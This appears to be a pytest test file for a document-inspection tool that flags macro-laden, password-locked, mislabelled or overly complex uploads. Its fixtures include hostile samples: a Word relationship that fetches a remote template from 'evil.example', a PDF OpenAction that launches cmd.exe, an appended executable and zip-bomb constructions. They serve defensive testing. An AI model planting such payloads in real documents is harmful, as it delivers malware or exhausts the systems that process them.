"""Documents: what is locked, carries a program, or is something else, is told without opening it."""

from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from infrastructure.inspection.__main__ import inspect
from tests import made_files
from tests.made_files import EXE, LOCKED_PDF, PDF, SHEET, docx, odt, package, xlsx

MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FETCHES = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)
LINKS = b'<Relationships><Relationship Id="r1" Type="x/hyperlink" Target="https://school.example" TargetMode="External"/></Relationships>'


def lying_about_its_size() -> bytes:
    """A document whose list of types unpacks to far more than a list ever is."""
    return package({"[Content_Types].xml": b" " * 50_000_000, "word/document.xml": b""})


def of_many_parts() -> bytes:
    return docx(more={f"word/media/{n}.xml": b"" for n in range(6_000)})


def of_a_huge_promise() -> bytes:
    whole = bytearray(docx(more={"word/media/a.bin": b"a"}))
    entry = whole.rfind(b"PK\x01\x02")
    whole[entry + 24 : entry + 28] = struct.pack("<I", 4_000_000_000)
    return bytes(whole)


@pytest.mark.threat("U5")
@pytest.mark.threat("T17")
@pytest.mark.parametrize(
    ("kind", "content", "why"),
    [
        ("docx", docx(), ""),
        ("docx", docx(more={"word/_rels/document.xml.rels": LINKS}), ""),
        ("docx", docx(more={"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}), ""),
        ("docx", docx(more={"word/vbaProject.bin": b"x"}), "macros"),
        ("docx", docx(more={"word/VBAPROJECT.BIN": b"x"}), "macros"),
        ("docx", docx(more={"word/embeddings/oleObject1.bin": b"x"}), "macros"),
        ("docx", docx(more={"word/activeX/activeX1.bin": b"x"}), "macros"),
        ("docx", docx(more={"word/_rels/settings.xml.rels": FETCHES}), "macros"),
        ("docx", docx(main=MACRO_MAIN), "macros"),
        ("docx", docx(main=SHEET), "not_as_named"),
        ("docx", package({"[Content_Types].xml": b"<Types/>", "evil.exe": EXE}), "not_as_named"),
        ("docx", EXE + docx(), "not_as_named"),
        ("docx", docx() + EXE, "not_as_named"),
        ("docx", docx()[:-30], "not_as_named"),
        ("docx", made_files.locked_docx(), "password"),
        ("docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "not_as_named"),
        ("docx", lying_about_its_size(), "too_complex"),
        ("docx", of_many_parts(), "too_complex"),
        ("docx", of_a_huge_promise(), "too_complex"),
        ("xlsx", xlsx(), ""),
        ("xlsx", docx(), "not_as_named"),
        ("odt", odt(), ""),
        ("odt", odt(more={"Basic/Standard/Module1.xml": b"x"}), "macros"),
        ("odt", odt(manifest=b"<manifest><encryption-data/></manifest>"), "password"),
        ("pdf", PDF, ""),
        ("pdf", LOCKED_PDF, "password"),
        ("pdf", PDF + package({"evil.exe": EXE}), "not_as_named"),
        ("pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S /Launch/F(cmd.exe)>>"), "macros"),
        ("txt", b"anything", ""),
    ],
    ids=lambda value: f"{len(value)}b" if isinstance(value, bytes) else value,
)
def test_a_document_is_told_for_what_it_is(kind: str, content: bytes, why: str) -> None:
    assert inspect(kind, content).why == why
    assert inspect(kind, content).copy is None


@pytest.mark.threat("U4")
def test_a_zip_with_a_password_is_told() -> None:
    whole = bytearray(docx())
    entry = whole.find(b"PK\x01\x02")
    whole[entry + 8] |= 1
    assert inspect("docx", bytes(whole)).why == "password"


@pytest.mark.threat("T18")
@given(st.sampled_from(["docx", "xlsx", "odt", "pdf", "jpg", "png", "heic", "webp"]), st.data())
def test_no_damage_makes_the_look_fail(kind: str, data: st.DataObject) -> None:
    whole = bytearray({
        "docx": docx(), "xlsx": xlsx(), "odt": odt(), "pdf": PDF, "jpg": made_files.jpeg(), "png": made_files.png(),
        "heic": made_files.heic(), "webp": made_files.webp(),
    }[kind])  # fmt: skip
    for _ in range(data.draw(st.integers(1, 4))):
        place = data.draw(st.integers(0, len(whole) - 1))
        whole[place : place + data.draw(st.integers(0, 3))] = data.draw(st.binary(max_size=4))
        if not whole:
            break
    assert inspect(kind, bytes(whole)).why in {"", "macros", "not_as_named", "password", "too_complex", "place_kept"}
